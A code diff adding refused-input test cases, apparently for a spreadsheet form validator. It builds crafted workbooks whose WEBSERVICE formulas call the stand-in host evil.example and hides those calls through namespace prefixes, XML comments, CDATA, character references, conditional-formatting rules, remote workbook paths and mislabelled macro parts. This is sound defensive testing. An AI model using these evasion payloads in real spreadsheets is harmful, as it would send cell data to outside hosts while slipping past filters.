@@ -119,7 +119,82 @@ def both(*changes: Change) -> Change:
     return change
 
 
+MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+_ASKS = 'WEBSERVICE("http://evil.example/"&amp;A2)'
+
+
+def help_sheet(xml: str) -> Change:
+    """Another sheet than the form's, of which nothing is marked, replaced by this one."""
+
+    def change(parts: Parts) -> None:
+        form = form_part(parts)
+        name = next(n for n in sorted(parts) if "worksheets/sheet" in n and n != form and "_rels" not in n)
+        parts[name] = f'<?xml version="1.0" encoding="UTF-8"?>\n{xml}'.encode()
+
+    return change
+
+
+def prefixed(prefix: str, space: str = MAIN) -> Change:
+    """A sheet with a live formula whose elements all have this prefix."""
+    p = f"{prefix}:"
+    return help_sheet(
+        f'<{p}worksheet xmlns:{prefix}="{space}"><{p}sheetData><{p}row r="1"><{p}c r="A1" t="str">'
+        f"<{p}f>{_ASKS}</{p}f><{p}v>x</{p}v></{p}c></{p}row></{p}sheetData></{p}worksheet>"
+    )
+
+
+def plain_sheet(cell: str, before: str = "", behind: str = "") -> Change:
+    """A sheet with one cell."""
+    return help_sheet(
+        f'{before}<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1">{cell}</c></row></sheetData>'
+        f"{behind}</worksheet>"
+    )
+
+
+def _also_a_theme(parts: Parts) -> None:
+    """A sheet that is said to be the theme, too, and that first."""
+    name = form_part(parts).removeprefix("xl/")
+    link = f'<Relationship Id="rIdEvil" Type="{REL}/theme" Target="{name}"/></Relationships>'
+    parts[BOOK_RELS] = parts[BOOK_RELS].replace(b"</Relationships>", link.encode())
+
+
 REFUSED: Mapping[str, Change] = {
+    "a prefix with a dash": prefixed("x-y"),
+    "a prefix with a point": prefixed("a.b"),
+    "a Chinese prefix": prefixed("表"),
+    "a plain prefix": prefixed("x"),
+    "a prefix of another namespace": prefixed("x", "http://purl.oclc.org/ooxml/spreadsheetml/main"),
+    "an instruction within a formula": plain_sheet(
+        '<f>WEB<?x y?>SERVICE("http://evil.example/")</f><v>1</v>'
+    ),
+    "a comment within a formula": plain_sheet('<f>WEB<!-- -->SERVICE("http://evil.example/")</f><v>1</v>'),
+    "CDATA within a formula": plain_sheet('<f>WEB<![CDATA[SERVICE("http://evil.example/")]]></f><v>1</v>'),
+    "an element within a formula": plain_sheet('<f>WEB<v/>SERVICE("http://evil.example/")</f><v>1</v>'),
+    "letters by their numbers": plain_sheet('<f>&#87;EBSERVICE("http://evil.example/")</f><v>1</v>'),
+    "a style sheet for the sheet": plain_sheet("<v>1</v>", '<?xml-stylesheet href="http://evil.example/"?>'),
+    "a sheet without a namespace": help_sheet("<worksheet><sheetData/></worksheet>"),
+    "a sheet that is none": help_sheet(f'<chartsheet xmlns="{MAIN}"/>'),
+    "a foreign element in a sheet": plain_sheet('<x xmlns="urn:x"/><v>1</v>'),
+    "a comment within a name": defined("zz", '1<!-- -->+41+LEN(WEBSERVICE("http://evil.example/"))'),
+    "CDATA within a name": defined("zz", '1+<![CDATA[LEN(WEBSERVICE("http://evil.example/"))]]>'),
+    "a call between sheet names with quotes": formula("'a\"b'!A1+WEBSERVICE(\"http://x\")+'c\"d'!A1"),
+    "a path in place of a sheet": formula("'\\\\192.0.2.1\\x\\a.xlsx'!total"),
+    "an address in place of a sheet": formula("'http://192.0.2.1/a.xlsx'!total"),
+    "a function as a value": formula('IF(TRUE,_xleta.WEBSERVICE)("http://evil.example/")'),
+    "a call of what a call gives": formula('IF(TRUE,WEBSERVICE)("http://evil.example/")'),
+    "the bound of a colour scale": plain_sheet(
+        "<v>1</v>",
+        behind='<conditionalFormatting sqref="A1"><cfRule type="colorScale" priority="1"><colorScale>'
+        '<cfvo type="formula" val="WEBSERVICE(&quot;http://evil.example/&quot;)"/><cfvo type="max"/>'
+        '<color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule></conditionalFormatting>',
+    ),
+    "a colour rule in an extension": plain_sheet(
+        "<v>1</v>",
+        behind='<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x-4:y xmlns:x-4="urn:x">'
+        "<x-4:f>WEBSERVICE(A1)</x-4:f></x-4:y></ext></extLst>",
+    ),
+    "a sheet that is the theme, too": _also_a_theme,
+    "the type of a macro sheet": in_part(TYPES, b"spreadsheetml.worksheet+xml", b"ms-excel.macrosheet+xml"),
     "macros": related("vbaProject", "vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"),
     "a macro sheet": related("xlMacrosheet", "macrosheets/sheet1.xml", b"<x/>"),
     "a link to another workbook": related(
